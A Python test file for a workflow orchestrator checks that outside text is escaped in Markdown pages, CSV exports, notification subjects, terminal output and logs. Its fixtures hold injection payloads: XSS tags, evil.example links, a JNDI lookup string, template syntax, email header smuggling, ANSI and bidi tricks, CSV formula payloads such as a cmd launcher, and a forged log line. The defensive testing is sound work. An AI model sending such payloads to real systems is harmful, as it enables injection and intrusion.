"""Words from outside (names of files and people, messages, values, parameters) stay words wherever they are shown, told or logged."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from history_made import manifest as made_manifest
from history_made import record
from step_lab import Bench, opened, work_on

from workflow_orchestrator.authoring.history import COLUMNS
from workflow_orchestrator.authoring.terminal import safe
from workflow_orchestrator.definition.model import NotifyStep, Workflow
from workflow_orchestrator.errors import DocumentNotFoundError
from workflow_orchestrator.inbox.result import DocumentResult
from workflow_orchestrator.inbox.summary import Summary
from workflow_orchestrator.literal import cell, plain
from workflow_orchestrator.record import RunFolder, build_manifest, summary_of
from workflow_orchestrator.steps.approval_page import Head, review_page
from workflow_orchestrator.storage import LocalStorage

NAME = "fund_factsheet_video"
MARKUP = [
    "](javascript:alert(1)) [x", "![x](https://evil.example/?q=1)", "[Approve](https://evil.example)", "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>", "| a | b |", "**Released by Kim**", "# Video ready", "`code` ~~gone~~", "<!-- x -->", "a\n# b\n\n- [x](y)",
    "a\r\nBcc: x", "\x1b[31mred\x1b[0m", "\u202egnp.exe", "{{ 7 * 7 }}", "{% raw %}", "${jndi:ldap://evil}", "&lt;b&gt;", "\\](x)",
]  # fmt: skip
_LINK = re.compile(r"(?<!\\)!?(?<!\\)\[((?:\\.|[^\]\\])*)\]\(([^)]*)\)")
_UNSEEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def links(markdown: str) -> set[str]:
    """The addresses that Markdown makes links or pictures of."""
    return {address for _, address in _LINK.findall(markdown)}


def assert_only_words(markdown: str, ours: set[str]) -> None:
    """No link but ours, no tag, no character that nobody sees."""
    assert links(markdown) <= ours
    assert not re.search(r"(?<!\\)<", markdown)
    assert not _UNSEEN.search(markdown)


@pytest.mark.parametrize("words", MARKUP, ids=ascii)
def test_markdown_shows_the_words_and_does_nothing_else(words: str) -> None:
    """One line, in which every sign that means something is escaped; taken back, it is the text."""
    shown = plain(words)
    assert "\n" not in shown
    assert_only_words(f"before {shown} after", set())
    for sign in "*_`[]<>#|!~":
        assert not re.search(rf"(?<!\\)(?:\\\\)*{re.escape(sign)}", shown)
    assert re.sub(r"\\([\\`*_\[\]<>#|!~])", r"\1", shown) == _UNSEEN.sub("", " ".join(words.split()))


@pytest.mark.parametrize("words", MARKUP, ids=ascii)
def test_the_note_of_a_run_forges_nothing(workflow: Workflow, tmp_path: Path, words: str) -> None:
    """An error that names a document, who released it, and an item of a map."""
    run = RunFolder(LocalStorage(tmp_path), NAME, "r")
    with pytest.raises(DocumentNotFoundError), run.reporting("extract_factsheet_data", 1):
        raise DocumentNotFoundError(f"there is no document {words} in the inbox")
    manifest = build_manifest(run, workflow, states={"extract_factsheet_data": "failed"}, run_facts={})
    failed = summary_of(manifest, lambda name: f"/files/{name}")
    assert failed.startswith("**Stopped in extract_factsheet_data: DocumentNotFoundError.** ")
    assert_only_words(failed, {f"/files/{name}" for name in ("manifest.json", "compliance.html")})
    video = "each/videos/0/video.mp4"
    finished = {
        **manifest, "outcome": "succeeded", "error": None, "approval": {"decision": "approved", "mode": "person", "by": words},
        "items": [{"map": "videos", "index": 0, "item": words}], "artifacts": [{"name": video}],
    }  # fmt: skip
    assert_only_words(summary_of(finished, lambda name: f"/files/{name}"), {f"/files/{video}", "/files/manifest.json"})


@pytest.mark.parametrize("words", MARKUP, ids=ascii)
def test_the_page_of_a_release_forges_nothing(workflow: Workflow, tmp_path: Path, words: str) -> None:
    """Names, parameters, values, findings, notes of other people: each in its table, none of it a link."""
    run = RunFolder(LocalStorage(tmp_path), NAME, "r")
    run.write_json("script.json", script(words))
    finding = {"rule": "R", "outcome": "needs_approval", "message": words, "words": words, "citation": words, "source_status": "memory"}
    run.write_json("compliance.json", {"results": [finding, {**finding, "outcome": "warn"}]})
    evidence = {"page": 1, "quote": words, "label": "", "box": None}
    value = {"field": "nav", "key": "", "value": "1", "origin": "model", "evidence": evidence}
    run.write_json("values.json", [value])
    run.write_json("validation.json", {"warnings": [words], "findings": [{"rule": "R", "message": words}]})
    change = {"title": words, "before": words, "after": words}
    head = Head(
        document=words, conf={"audience": words, "jurisdictions": [words]}, language="en", requested_by=words, groups=[words],
        until=datetime(2026, 12, 1, tzinfo=UTC), one_person=False, titles={"a": words},
        edits=[{"by": words, "at": words, "note": words, "changes": [change]}],
        again={"said": words, "by": words, "problems": [{"place": "a", "text": words, "why": words}]},
    )  # fmt: skip
    page = review_page(run, "sha256:1", ("script", "data"), lambda name: f"/files/{name}", workflow.fields, head)
    ours = {f"/files/{name}" for name in ("slides.pdf", "source.pdf", "values.json", "compliance.html")}
    assert_only_words(page, ours)
    assert page.count("\n## ") == 1 + len(re.findall(r"^## (?:For you|Edited|Values|Checks|Compliance|How to)", page, re.MULTILINE))
    rows = [line for line in page.splitlines() if line.startswith("|")]
    assert {len(re.findall(r"(?<!\\)\|", row)) for row in rows} <= {3, 4, 5}


def script(words: str) -> dict[str, Any]:
    """A script without slides whose title is the words."""
    from workflow_orchestrator.script.model import Script

    data: dict[str, Any] = Script("en", words, "Fund", "Kicker", "Footer", "Source", ()).to_json()
    return data


FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=HYPERLINK(\"http://evil\")", "=cmd|'/c calc'!A1"]


@pytest.mark.parametrize("words", FORMULAS, ids=ascii)
def test_no_table_holds_a_formula(tmp_path: Path, words: str) -> None:
    """Neither that of a night or a batch nor that of the history; the words are there, behind an apostrophe."""
    assert cell(words) == f"'{words}" and cell("a=1") == "a=1"
    error = {"error": words, "message": words, "classes": []}
    result = DocumentResult(words, words, "failed", error, asks=())
    told = Summary(NAME, "W", "2026-11-24 02:00:00", (result,), put_aside=((words, words),), left_out=((words, words),))
    for row in csv.reader(io.StringIO(told.csv(lambda result: "/run"))):
        assert not [one for one in row if one.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    entry = record(LocalStorage(tmp_path), made_manifest("r1", document=words, released_by=words))
    from workflow_orchestrator.authoring.history import _cell, row_of

    cells = {key: _cell(value) for key, value in row_of(entry).items()}
    assert set(cells) == set(COLUMNS)
    assert cells["document"] == cells["released_by"] == f"'{words}"


@pytest.mark.parametrize("words", MARKUP, ids=ascii)
def test_a_message_keeps_its_head_and_renders_nothing(workflow: Workflow, tmp_path: Path, words: str) -> None:
    """A file's name in the subject makes no second header; braces in it are braces."""
    run = opened(tmp_path, workflow)
    request = run.read_json("request.json")
    run.write_json("request.json", {**request, "source": {"name": words}})
    step = NotifyStep(
        name="tell", execution=workflow.steps[0].execution, channel="operations", subject="{{ document }}", message="{{ document }}",
        catches=(),
    )  # fmt: skip
    bench = Bench()
    from workflow_orchestrator.steps.notify import perform

    perform(work_on(run, replace(workflow, steps=(step,), flow=(step,)), step, bench))
    ((_, subject, text),) = bench.sent
    assert "\n" not in subject and "\r" not in subject
    assert text == words and "49" not in subject


@pytest.mark.parametrize("words", [one for one in MARKUP if "\x1b" in one or "\u202e" in one])
def test_a_terminal_obeys_nothing(words: str) -> None:
    """No colour, no cleared screen, no text the other way round."""
    assert not re.search("[\x1b\u202a-\u202e]", safe(words))


FORGED = "a.pdf\n2026-11-24 02:00:00 INFO approved by=admin\r\n{\"event\": \"history.appended\"}\x1b[2J"


def test_a_line_of_the_log_stays_one_line(caplog: pytest.LogCaptureFixture) -> None:
    """As Airflow writes a task's log (structlog, one JSON object a line), and where a channel has no notifier."""
    import structlog

    out = io.StringIO()
    log = structlog.wrap_logger(
        structlog.WriteLogger(out), processors=[structlog.processors.add_log_level, structlog.processors.JSONRenderer()]
    )
    log.warning("inbox.left_out", document=FORGED)
    (line,) = out.getvalue().splitlines()
    assert json.loads(line)["document"] == FORGED
    from workflow_orchestrator.operators.channels import _log

    with caplog.at_level(logging.INFO, _log.name):
        _log.info("channel.logged channel=%s subject=%r text=%r", "operations", FORGED, FORGED)
    assert "\n" not in caplog.text.rstrip("\n") and "\x1b" not in caplog.text


def test_messages_name_what_came_from_outside_in_quotes(tmp_path: Path) -> None:
    """An error's message is one line whatever a conf holds, so no reader of a log takes it for two."""
    from workflow_orchestrator.storage import document_key

    with pytest.raises(DocumentNotFoundError) as missing:
        document_key(LocalStorage(tmp_path), NAME, FORGED)
    assert "\n" not in missing.value.message and "\x1b" not in missing.value.message and "\\n2026" in missing.value.message
